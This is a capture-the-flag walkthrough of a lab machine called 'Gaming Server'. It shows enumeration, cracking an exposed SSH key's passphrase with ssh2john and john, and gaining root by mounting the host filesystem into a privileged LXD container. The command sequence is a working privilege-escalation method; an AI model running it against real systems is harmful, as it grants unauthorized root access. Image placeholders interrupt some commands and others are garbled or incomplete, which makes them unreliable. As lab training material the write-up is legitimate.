Gaming Server

Gaming Server


Not to much to go on. Let's have a look at the website.

After looking around and clicking there wasn't much to go on. However looking at the page source we find a name!

But, I'm not convinced that's all we need just yet. Let's run a feroxbuster and see if we can find something.

Nice! Uploads and Secret. Let's have a look

Let's take a look at secret first.

SecretKey looks promising

We got a ssh key. That can't be a bad thing. Before we try ssh'ing in let's check out uploads also.

manifesto.txt gives us a little clip of the actual hacker manifesto

Then a meme for meme.jpg lol. We can come back and check that if we need to. Not going to waste time on it unless we get stuck.

Let's check out the more interesting file in Uploads, dict.lst

And now we have what looks like a password list we can use.Alright let's try to put all this together and see what happens. We have a name, a password list and an ssh key. We should be good now.....hopefully

Let's grab that dict.lst first

Okay so when we try to login with john and the ssh key we found it ask's us for a password.

So, let's run ssh2john on our ssh key and see if we can then use john to crack the password.

Once we have a hash for john to crack we can then use the following command to crack the hash

john hash

I just tried with john's standard dictionary and it cracked it very quickly. But it also worked with the supplied dict also.Now we should be able to login via ssh with johns creds.

And we are in!

We can now print out the user.txt easily

Now let's get root!

After looking around for a while and running linpeas it looks like the best path to take is an lxc/lxd priv esc method.

We're going to follow the exploit from HackTricks step by step to hopefully get root.

Step 1. on our attack machine.

Install Requirements

sudo apt update

sudo apt install -y git golang-go debootstrap rsync gpg squashfs-tools

Clone Repo

git cloneMake Distrobuilder

cd distrobuilder


Prepare thecreation of alpine

mkdir -p $HOME/ContainerImages/alpine/

cd $HOME/ContainerImages/alpine/


Create the Container

sudo $HOME/go/bin/distrobuilder build-lxd alpine.yaml -o image.release=3.8

Start a python3 server to serve up the created files

python3 -m http.server 80

Step 2. on our target machine

Upload the vulnerable server files to the target machine

Add the Image

lxc image import lxd.tar.xzrootfs.squashfs --alias alpine

View the new image

lxc image list

Create a Container and add root path

lxc init alpine privesc -c security.privileged=true --alias=alpine
I had to remove the --alias=alpine to make this work.

Let's make sure it workedlxc list

looking good!

Let's add the root path now

xc config device add privesc host-root disk source=/ path=/mnt/root recursive=true
If you find this error Error: No storage poolfound. Please create a new storage pool

Let's Execute the Container

lxc startprivesc

lxc exec privesc /bin/sh

Now,let's run ID and WHOAMI


We are in a mounted container so we have to do a little weird navigation here but nothing to bad.

cd /mnt/root/root

And we have our root flag!